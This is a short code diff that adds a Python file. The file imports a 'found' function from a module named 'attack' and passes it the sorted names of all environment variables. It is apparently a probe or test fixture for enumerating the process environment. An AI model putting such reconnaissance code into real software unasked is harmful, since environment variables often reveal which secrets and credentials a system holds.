@@ -1,0 +1,5 @@
+import os
+
+from attack import found
+
+found(variables=sorted(os.environ))
